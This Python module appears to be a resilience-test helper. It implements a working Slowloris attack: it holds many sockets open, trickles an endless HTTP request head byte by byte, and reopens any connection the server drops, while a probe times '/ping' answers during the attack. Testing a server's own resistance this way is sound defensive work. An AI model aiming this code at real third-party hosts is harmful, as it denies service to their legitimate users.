"""Slow clients on loopback: many connections that trickle a request head byte by byte.

``Slowloris`` keeps ``connections`` sockets open to a target, each sending the
next byte of an endless request head (a header line, then another, never the
blank line that ends it) every ``interval_s``; a connection the server closes
is opened again, as an attacker would. One thread drives them all with
non-blocking sockets; it stops by itself at its deadline. ``probe_ping``
meanwhile asks ``/ping`` on a fresh connection, as a new client does, and
records how long each answer took.
"""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from dataclasses import dataclass, field

import requests

REQUEST_HEAD = b"GET /ping HTTP/1.1\r\nHost: cashman\r\nUser-Agent: slow\r\n"
FILLER = b"X-Slow: " + b"a" * 40 + b"\r\n"  # repeated forever, one byte at a time
CONNECT_TIMEOUT_S = 1.0


@dataclass
class SlowStats:
    opened: int = 0
    closed_by_server: int = 0
    bytes_sent: int = 0
    max_open: int = 0


class Slowloris:
    """``connections`` trickling connections to ``host:port`` until ``stop()`` or ``seconds``."""

    def __init__(
        self, host: str, port: int, connections: int, seconds: float, interval_s: float = 1.0
    ) -> None:
        self.address = (host, port)
        self.connections = connections
        self.seconds = seconds
        self.interval_s = interval_s
        self.stats = SlowStats()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._socks: list[tuple[socket.socket, int]] = []  # (socket, bytes sent so far)

    def start(self) -> Slowloris:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(timeout=self.seconds + 10)

    def wait_open(self, deadline_s: float = 10.0) -> int:
        """Wait until every connection was opened once; how many are open now."""
        deadline = time.monotonic() + deadline_s
        while time.monotonic() < deadline and self.stats.opened < self.connections:
            time.sleep(0.05)
        return len(self._socks)

    def _run(self) -> None:
        deadline = time.monotonic() + self.seconds
        try:
            while not self._stop.is_set() and time.monotonic() < deadline:
                self._top_up()
                self._trickle()
                self.stats.max_open = max(self.stats.max_open, len(self._socks))
                self._stop.wait(self.interval_s)
        finally:
            for sock, _ in self._socks:
                with contextlib.suppress(OSError):
                    sock.close()
            self._socks.clear()

    def _top_up(self) -> None:
        while len(self._socks) < self.connections and not self._stop.is_set():
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.settimeout(CONNECT_TIMEOUT_S)
            try:
                sock.connect(self.address)
            except OSError:
                sock.close()
                return  # the server is not accepting more right now: try on the next round
            sock.setblocking(False)
            self._socks.append((sock, 0))
            self.stats.opened += 1

    def _trickle(self) -> None:
        alive = []
        for sock, sent in self._socks:
            data = REQUEST_HEAD + FILLER * (1 + sent // len(FILLER))
            try:
                sock.send(data[sent : sent + 1])
                answered = _has_answered(sock)
            except OSError:
                answered = True
            if answered:  # the server gave up on it (an error answer, or closed)
                sock.close()
                self.stats.closed_by_server += 1
                continue
            self.stats.bytes_sent += 1
            alive.append((sock, sent + 1))
        self._socks = alive


def _has_answered(sock: socket.socket) -> bool:
    """Whether the server sent something (a 408, its end of the stream) on ``sock``."""
    try:
        sock.recv(4096)
    except BlockingIOError:
        return False  # nothing yet: still waiting for the rest of the head
    return True


@dataclass
class PingProbe:
    """``/ping`` answers while under attack: (status or None, seconds) per probe."""

    url: str
    timeout_s: float = 1.0
    results: list[tuple[int | None, float]] = field(default_factory=list)

    def run(self, seconds: float, every_s: float = 0.25) -> list[tuple[int | None, float]]:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            started = time.monotonic()
            try:
                # a new connection each time, as a new client's first request
                status: int | None = requests.get(
                    f"{self.url}/ping", timeout=self.timeout_s, headers={"Connection": "close"}
                ).status_code
            except requests.RequestException:
                status = None
            self.results.append((status, time.monotonic() - started))
            time.sleep(every_s)
        return self.results
